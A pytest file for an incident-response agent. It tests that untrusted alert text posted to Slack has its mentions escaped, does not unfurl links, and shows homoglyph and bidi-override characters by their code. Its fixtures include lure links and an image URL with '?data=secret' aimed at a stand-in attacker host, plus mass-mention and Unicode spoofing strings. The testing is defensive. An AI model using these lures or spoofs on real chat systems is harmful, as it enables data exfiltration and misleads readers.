"""Strangers' text on its way to Slack: it calls nobody, leads nowhere, hides nothing (T25, T26; P23)."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

import pytest

from agents.gatekeeper.posting import advance
from agents.incident import Claim, Diagnosis
from agents.ledger import incidents, investigations
from agents.ledger.investigations import Look
from evals.world.slack.people import ADA
from tests.support.front_desk import FrontDesk, front_desk
from tests.support.live_text import alive, alive_beside, texts
from tests.support.plans import a_delivery, an_alert
from tools.redaction import inert, redact

CANARY = "canary.attacker.example"
LURES = (
    f"<https://{CANARY}/?q=1|status page>",
    f"![proof](https://{CANARY}/pixel.png?data=secret)",
    f"[runbook](http://{CANARY}/)",
    f"https://{CANARY}/steal",
    f"<img src=//{CANARY}/x>",
    f"//{CANARY}",
)
CALLS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    f"<@{ADA}>",
    "<#C0123456789>",
    "<!subteam^S0123|ops>",
    "&lt;!channel&gt;",
)
MARKUP = (
    "*bold* _it_ ~no~ `code`",
    "```\nblock\n```",
    "> quoted",
    ":rotating_light:",
    "\n\n\nAPPROVED by security",
)


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[FrontDesk]:
    with front_desk(tmp_path_factory.mktemp("desk")) as made:
        yield made


def told(desk: FrontDesk, name: str, text: str) -> list[dict[str, Any]]:
    """Everything Slack was sent about an incident in which each text that a stranger can choose is this."""
    now = desk.ledger.now()
    labels = {"alertname": text[:200], "namespace": "shop", "severity": text[:40], "pod": text}
    alert = an_alert(now, fingerprint=name, labels=labels, annotations={"summary": text})
    number = incidents.accept(desk.ledger, [a_delivery(now, alert, group_key=name)])[0].incident
    assert number is not None
    lease = investigations.take(desk.ledger, number, "the test", 60)
    assert lease is not None
    look = Look(key="1", tool="kubernetes.logs", query=redact(text), excerpt=redact(text), ok=True)
    (evidence,) = investigations.store_evidence(desk.ledger, lease, [look])
    found = Diagnosis(
        cause=None,
        claims=(Claim(text=text[:500], evidence=(evidence.id,)),),
        confidence="none",
        not_checked=(text,),
        changed=(Claim(text=text[:500], evidence=(evidence.id,)),),
        source="model",
        prose=text[:600],
        no_plan_because=text,
        patch=text,
    )
    investigations.write_diagnosis(desk.ledger, lease, 1, found)
    investigations.release(desk.ledger, lease)
    before = len(desk.slack.calls)
    desk.run(advance(desk.office, number))
    sent = [call.arguments for call in desk.slack.calls[before:] if call.method.startswith("chat.")]
    assert len(sent) >= 2, "the card and its thread"
    # It ends, or the next ones would be told in the channel's digest.
    ended = alert.model_copy(update={"firing": False, "ends_at": desk.ledger.now()})
    incidents.accept(desk.ledger, [a_delivery(now, ended, group_key=name)])
    return sent


@pytest.mark.parametrize("text", [*CALLS, *LURES, *MARKUP, " ".join((*CALLS, *LURES, *MARKUP))])
def test_t25_markup_of_strangers_reaches_slack_as_text(desk: FrontDesk, text: str) -> None:
    for message in told(desk, f"t25 {text}", text):
        assert alive(message["blocks"], desk.office.public_url) == []
        assert not alive_beside(message["text"])
        assert message.get("unfurl_links") is message.get("unfurl_media") is False
        assert "parse" not in message
        assert "link_names" not in message


def test_t25_a_note_to_one_person_and_the_answer_to_a_command_are_text_too(desk: FrontDesk) -> None:
    desk.run(desk.office.slack.whisper(desk.office.channel_id, ADA, "Not counted: <!channel> & <@U1>."))
    said = desk.slack.calls[-1].arguments
    assert said["text"] == "Not counted: &lt;!channel&gt; &amp; &lt;@U1&gt;."
    assert alive(said["blocks"], "") == []
    ada = desk.person()
    ada.slash(desk.office.channel_id, "/midwatch halt <!channel> wait")
    ada.slash(desk.office.channel_id, "/midwatch status")
    answers = [str(delivery.response) for delivery in desk.slack.deliveries[-2:]]
    ada.slash(desk.office.channel_id, "/midwatch resume over")
    assert "&lt;!channel&gt; wait" in answers[1]
    assert "<!channel>" not in "".join(answers)


@pytest.mark.parametrize(
    ("spoofed", "shown"),
    [
        ("\u0440ayments", r"\u{440}ayments"),
        ("p\u0430yments-api", r"p\u{430}yments-api"),
        ("shop/\u0441heckout:2.8.1", r"shop/\u{441}heckout:2.8.1"),
        ("k\u03bfbe-system", r"k\u{3bf}be-system"),
        ("\uff53hop", r"\u{ff53}hop"),
        ("\u03bcser", r"\u{3bc}ser"),
        ("p\u03bcs", r"p\u{3bc}s"),
        ("\u0394p\u0430y", r"\u{394}p\u{430}y"),
        ("\u03a9mega", r"\u{3a9}mega"),
        ("pay\u200bments", r"pay\u{200b}ments"),
        ("\u202etnemyolpeD\u202c", r"\u{202e}tnemyolpeD\u{202c}"),
        ("a\u2066b\u2069", r"a\u{2066}b\u{2069}"),
        ("soft\u00adhyphen", r"soft\u{ad}hyphen"),
        ("\ud800 half", r"\u{d800} half"),
        ("\u2028 next", r"\u{2028} next"),
        ("tag\U000e0041", r"tag\u{e0041}"),
    ],
)
def test_t26_a_name_that_reads_as_another_is_shown_by_its_code(spoofed: str, shown: str) -> None:
    assert inert(spoofed) == redact(spoofed) == shown
    assert inert(shown) == shown


@pytest.mark.parametrize(
    "language",
    [
        "naïve Größe",
        "\u043e\u0448\u0438\u0431\u043a\u0430 \u0441\u0435\u0440\u0432\u0435\u0440\u0430",
        "接続 timeout",
        "12 µs",
        "12\u03bcs, 3.5 \u03bcF at 10k\u03a9 and 2\u03a9",
        "\u0394t and \u0394latency_p99 of \u03bb",
        "pod は Ready",
    ],
)
def test_t26_what_somebody_writes_in_their_language_stays_readable(language: str) -> None:
    assert inert(language) == language


def test_t26_whatever_is_spoofed_reaches_slack_with_nothing_hidden(desk: FrontDesk) -> None:
    luck = random.Random(26)
    odd = [
        chr(luck.choice([0, 1, 0x1B, 0x85, 0xAD, 0x200B, 0x200F, 0x202E, 0x2066, 0x2028, 0xFEFF]))
        for _ in range(60)
    ]
    text = "".join(f"{char}shop" for char in odd) + "\u0440ay"
    for message in told(desk, "t26", text):
        assert alive(message["blocks"], desk.office.public_url) == []
        assert not alive_beside(message["text"])
        assert not any("\u0440" in one for one in texts(message["blocks"]))
